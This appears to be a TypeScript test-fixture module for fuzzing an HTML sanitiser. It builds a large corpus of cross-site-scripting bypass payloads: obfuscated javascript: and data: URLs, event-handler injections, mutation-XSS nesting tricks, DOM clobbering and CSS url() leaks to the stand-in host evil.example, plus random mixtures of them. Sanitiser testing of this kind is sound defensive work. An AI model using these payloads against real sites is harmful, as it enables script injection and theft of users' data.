import fc from 'fast-check'

// HTML of the classes by which sanitisers were got round: each calls `run()` or fetches from evil.example when it works.

const evil = 'https://evil.example'

/** Every way of writing an address that runs: with entities, blanks, controls, other cases, other protocols. */
const runningAddresses = ['javascript:run()', 'JaVaScRiPt:run()', ' javascript:run()', '\u0001javascript:run()', 'java\tscript:run()', 'java\nscript:run()', 'java\rscript:run()', 'javascript\u0000:run()', '&#106;avascript:run()', '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;run()', '&#0000106avascript:run()', 'javascript&colon;run()', 'java&Tab;script:run()', 'java&NewLine;script:run()', 'jav&#x0A;ascript:run()', '&#14;javascript:run()', 'javascript://%0Arun()', 'javascript:/*https://x.example*/run()', 'javascript:%72un()', 'data:text/html,<script>parent.run()</script>', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucnVuKCk8L3NjcmlwdD4=', 'DATA:TEXT/HTML,<svg onload=run()>', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="run()"/>', 'data:application/xhtml+xml,<x/>', 'data:,x', 'vbscript:run()', 'view-source:javascript:run()', 'feed:javascript:run()', 'blob:https://evil.example/x', 'file:///etc/passwd', 'about:blank', 'jar:https://evil.example!/x', 'mhtml:https://evil.example', 'livescript:run()', 'mocha:run()', 'filesystem:x', 'https:\\\\evil.example', '\\\\evil.example', '///evil.example', '//evil.example', 'https:evil.example@x', 'javascript\u2028:run()', '\u3000javascript:run()'] // prettier-ignore

const addressPlaces: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_self>x</a>`,
  (address) => `<a href=${address.replaceAll(/[\s>]/g, '')}>x</a>`,
  (address) => `<a href="https://x.example" href="${address}">x</a>`,
  (address) => `<a xlink:href="${address}">x</a>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<math><maction actiontype="statusline#" xlink:href="${address}">x</maction></math>`,
  (address) => `<img src="${address}">`,
  (address) => `<img src=x srcset="${address} 1x, ${address} 2x">`,
  (address) => `<picture><source srcset="${address}"><img></picture>`,
  (address) => `<form action="${address}"><button>x</button></form><button formaction="${address}">x</button>`,
  (address) => `<iframe src="${address}"></iframe><embed src="${address}"><object data="${address}"></object>`,
  (address) => `<link rel=stylesheet href="${address}"><base href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<video src="${address}" poster="${address}"><track src="${address}"></video><audio src="${address}">`,
  (address) => `<body background="${address}"><table background="${address}"><td background="${address}">`,
  (address) => `<blockquote cite="${address}">x</blockquote><img longdesc="${address}" dynsrc="${address}" lowsrc="${address}">`,
  (address) => `<p style="background:url('${address}')">x</p>`,
  (address) => `<svg><use href="${address}"/><image href="${address}"/><animate attributeName=href values="${address}"/></svg>`,
  (address) => `<area href="${address}"><map name=m><area href="${address}"></map><img usemap=#m>`,
] // prettier-ignore

const handlers = 'onerror onload onclick onfocus onmouseover onanimationstart ontoggle onbegin onpointerenter onwheel onscrollend onbeforetoggle oncontentvisibilityautostatechange ontransitionend onsecuritypolicyviolation'.split(' ') // prettier-ignore

const handlerPlaces: readonly ((handler: string) => string)[] = [
  (handler) => `<img src=x ${handler}=run()>`,
  (handler) => `<img src=x ${handler.toUpperCase()}="run()">`,
  (handler) => `<img/src=x/${handler}=run()>`,
  (handler) => `<img\tsrc=x\t${handler}\t=\trun()>`,
  (handler) => `<img src=x\u000c${handler}=run()>`,
  (handler) => `<p ${handler}=run() tabindex=0 autofocus>x</p>`,
  (handler) => `<svg ${handler}=run()><set ${handler}=run() attributeName=x></svg>`,
  (handler) => `<details open ${handler}=run()><summary>x</summary></details>`,
  (handler) => `<x ${handler}=run() style="animation-name:x">x</x>`,
  (handler) => `<img src=x on\u0000${handler.slice(2)}=run()>`,
  (handler) => `<img src=x "${handler}=run()>`,
  (handler) => `<img src="x" title="a"${handler}="run()">`,
  (handler) => `<img src=\`x\` title=\`a\` ${handler}=run()>`,
  (handler) => `<a href="https://x.example/"${handler}="run()">x</a>`,
  (handler) => `<video><source ${handler}=run()></video><audio src ${handler}=run()>`,
  (handler) => `<p title='&quot; ${handler}=run() &quot;' class="&#34; ${handler}=run()">x</p>`,
] // prettier-ignore

/** An end tag in an attribute, seen as text by one reader and as markup by another. */
const hiddenIn = (element: string): string[] => [
  `<${element}><p title="</${element}><img src=x onerror=run()>">`,
  `<${element}></${element}\u000c><img src=x onerror=run()>`,
  `<${element}><!--</${element}><img src=x onerror=run()>-->`,
  `<${element}><${element}></${element}><img src=x onerror=run()></${element}>`,
  `<${element} x="</${element}><img src=x onerror=run()>"><img src=x onerror=run()>`,
  `<${element}><![CDATA[</${element}><img src=x onerror=run()>]]></${element}>`,
  `<svg><${element}><a id="</${element}><img src=x onerror=run()>"></svg>`,
  `<math><mtext><${element}><a title="</${element}><img src=x onerror=run()>"></mtext></math>`,
  `<svg><desc><${element}><a title="</${element}></desc></svg><img src=x onerror=run()>">`,
]

const rawElements = 'script style noscript template textarea title xmp iframe noembed noframes plaintext select option button svg math desc foreignObject annotation-xml mglyph malignmark table caption colgroup frameset head body html'.split(' ') // prettier-ignore

const styles = [`background:url(${evil}/a)`, `background:url("${evil}/a")`, `background:u\\72l(${evil}/a)`, `background:URL(${evil})`, `background:url(//evil.example)`, `background:/**/url(${evil})`, `background-image:image-set('${evil}' 1x)`, `background:image-set("${evil}" 1x)`, `background:cross-fade(url(${evil}),url(${evil}),50%)`, `list-style:url(${evil})`, `list-style-image:url(${evil})`, `cursor:url(${evil}),auto`, `border-image:url(${evil}) 1`, `content:url(${evil})`, `mask:url(${evil}#x)`, `clip-path:url(${evil}#x)`, `filter:url(${evil}#x)`, `shape-outside:url(${evil})`, `src:url(${evil})`, `--x:url(${evil});background:var(--x)`, 'width:expression(run())', 'behavior:url(x)', '-moz-binding:url(x)', 'position:fixed;inset:0', 'color:red;}</style><script>run()</script>', `font-family:"x;background:url(${evil})"`, `color:red;background:u&#114;l(${evil})`, `background:&#117;rl(${evil})`, `x:\\;background:url(${evil})`, `font:'\\';background:url(${evil});'`, `color:red/*;*/;background:url(${evil})`, `@import url(${evil})`, `{}*{background:url(${evil})}`, `color:attr(x url);background:src("${evil}")`, 'animation:x 1s', `background:paint(x);background:element(#x)`] // prettier-ignore

const cssSheets = [`@import "${evil}/a.css"`, `@import url(${evil}/a.css)`, `*{background:url(${evil}/a)}`, `@font-face{font-family:x;src:url(${evil}/f)}*{font-family:x}`, '<!--</style><img src=x onerror=run()>-->', '</style/><img src=x onerror=run()>', `a[href^="https"]{background:url(${evil}/leak)}`] // prettier-ignore

const nested = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=run()&gt;">',
  '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img src=x onerror=run()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>',
  '<svg></p><style><a id="</style><img src=1 onerror=run()>">',
  '<svg><style><!--</style><img src=x onerror=run()>--></style></svg>',
  '<svg><foreignObject><math><mtext><style><a title="</style><img src=x onerror=run()>"></style></mtext></math></foreignObject></svg>',
  '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=run()>"></annotation-xml></math>',
  '<math><annotation-xml encoding="text/html"><xmp></math><img src=x onerror=run()></xmp></annotation-xml></math>',
  '<svg><title><style><img title="</style></title></svg><img src=x onerror=run()>"></style>',
  '<svg><script href="data:,run()"/></svg><svg><script>run()</script></svg><svg><script/href=data:,run()></script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values="javascript:run()" /><a id=x><text>x</text></a></svg>',
  '<svg><set attributeName="onclick" to="run()"/><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">run()</handler></svg>',
  '<p><svg><p><style><!--</p></svg><img src=x onerror=run()>--></style>',
  '<table><td><svg><td><style><a title="</style></td></table><img src=x onerror=run()>">',
  '<noscript><style></noscript><img src=x onerror=run()></style>',
  '<noscript><img title="</noscript><img src=x onerror=run()>"></noscript>',
  '<template><style></template><img src=x onerror=run()></style>',
  '<template shadowrootmode=open><img src=x onerror=run()></template>',
  '<div><template shadowrootmode="open"><script>run()</script></template></div>',
  '<select><template><style><a title="</style></template></select><img src=x onerror=run()>">',
  '<select><style></select><img src=x onerror=run()></style>',
  '<select><iframe></select><img src=x onerror=run()>',
  '<option><style></option></select><img src=x onerror=run()></style>',
  '<textarea><img title="</textarea><img src=x onerror=run()>"></textarea>',
  '<title><img title="</title><img src=x onerror=run()>"></title>',
  '<frameset onload=run()><frame src="javascript:run()"></frameset>',
  '<a><table><a href="javascript:run()"><tr><td><a onclick=run()>x',
  '<b><p><b><p><b><p><i></b><img src=x onerror=run()></i>',
  '<img src="x` `<script>run()</script>"` `>',
  '<img alt="`><script>run()</script>`">',
  '<<script>run()//<</script>',
  '<scr<script>ipt>run()</scr</script>ipt>',
  '<script>/*</script><img src=x onerror=run()>*/</script>',
  '<!--><img src=x onerror=run()>-->',
  '<!---><img src=x onerror=run()>-->',
  '<!-- --!><img src=x onerror=run()> -->',
  '<!--<img title="--><img src=x onerror=run()>">-->',
  '<!doctype html [<!ENTITY x "<img src=x onerror=run()>">]>&x;',
  '<?xml version="1.0"?><?php echo "<img src=x onerror=run()>" ?>',
  '<?x ><img src=x onerror=run()>?>',
  '<![CDATA[><img src=x onerror=run()>]]>',
  '</ img src=x onerror=run()><//img src=x onerror=run()></><img src=x onerror=run()>',
  '<%<img src=x onerror=run()>%>',
  '<img src=x onerror=run()',
  '<img src=x onerror=run()//',
  '<p title="<img src=x onerror=run()>',
  '<p id=\'"><img src=x onerror=run()>\' class="\'><img src=x onerror=run()>">x</p>',
  '&lt;img src=x onerror=run()&gt;&amp;lt;img src=x onerror=run()&amp;gt;',
  '&#60;script&#62;run()&#60;/script&#62;',
  '\u0000<img src=x onerror=run()><\u0000img src=x onerror=run()><i\u0000mg src=x onerror=run()>',
  '\ufeff<img src=x onerror=run()>+ADw-script+AD4-run()+ADw-/script+AD4-',
  '<IMG SRC=x ONERROR=run()><iMg SrC=x oNeRrOr=run()>',
  '＜script＞run()＜/script＞ʻ<ſcript>run()</ſcript>',
  '<img id=attributes name=attributes><form id=f><input name=attributes><input name=parentNode></form>',
  '<a id=document name=body></a><img name=createElement><form name=getElementById></form>',
  '<p data-quoted data-remote-src="javascript:run()" data-quote-hint="quote">x</p><img data-remote-src="javascript:run()">',
  '<link rel=prefetch href=https://evil.example/p><link rel=preload as=script href=https://evil.example/p><link rel=dns-prefetch href=//evil.example>',
  '<link rel=modulepreload href=https://evil.example/m><link rel=import href=https://evil.example/i>',
  '<a ping="https://evil.example/ping" href="https://x.example">x</a>',
  '<a href="https://x.example" attributionsrc="https://evil.example/a">x</a><img attributionsrc="https://evil.example/a">',
  '<iframe srcdoc="<script>parent.run()</script>"></iframe><iframe srcdoc="&lt;img src=x onerror=parent.run()&gt;"></iframe>',
  '<object type="text/html" data="data:text/html,<script>parent.run()</script>"></object><object><param name=src value="javascript:run()"></object>',
  '<portal src="https://evil.example"></portal><fencedframe></fencedframe><webview src="https://evil.example"></webview>',
  '<isindex type=image src=1 onerror=run()><keygen autofocus onfocus=run()><marquee onstart=run()>x</marquee><bgsound src="javascript:run()">',
  '<input type=image src=x onerror=run()><input onfocus=run() autofocus><button popovertarget=x>x</button><div popover id=x onbeforetoggle=run()>x</div>',
  '<dialog open onclose=run()>x</dialog><slot onslotchange=run()></slot><search onfocus=run() tabindex=1></search>',
  '<x-foo onfocus=run() tabindex=1 autofocus></x-foo><font-face onfocus=run()></font-face>',
  '<math href="javascript:run()">x</math><math><mi xlink:href="javascript:run()">x</mi></math>',
  '<img src=x:x onerror\n=\nrun()><img src=x onerror=\u0000run()>',
  '<img src=https://evil.example/1 loading=lazy><input type=image src=https://evil.example/2><svg><feImage href=https://evil.example/3></svg>',
]

const product = <A>(places: readonly ((one: A) => string)[], values: readonly A[]): string[] =>
  places.flatMap((place) => values.map(place))

/** One piece of HTML for each form of each class. */
export const hostileHtml: readonly string[] = [
  ...product(addressPlaces, runningAddresses),
  ...product(handlerPlaces, handlers),
  ...rawElements.flatMap(hiddenIn),
  ...styles.flatMap((style) => [`<p style="${style}">x</p>`, `<p style='${style}'>x</p>`, `<div style="color:red;${style}"><font style="${style}">x</font></div>`]), // prettier-ignore
  ...cssSheets.flatMap((sheet) => [
    `<style>${sheet}</style>`,
    `<svg><style>${sheet}</style></svg>`,
    `<p><style media=all>${sheet}`,
  ]),
  ...nested,
]

const pieces = [...nested, ...rawElements.flatMap((element) => [`<${element}>`, `</${element}>`])]
  .flatMap((html) => html.split(/(?=[<>"'&`])/))
  .filter((piece) => piece !== '')

/** Mixtures of their pieces. */
export const hostileMixture: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 8, arbitrary: fc.constantFrom(...pieces) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 6 }) },
    ),
    { minLength: 2, maxLength: 18 },
  ) // prettier-ignore
  .map((parts) => parts.join(''))
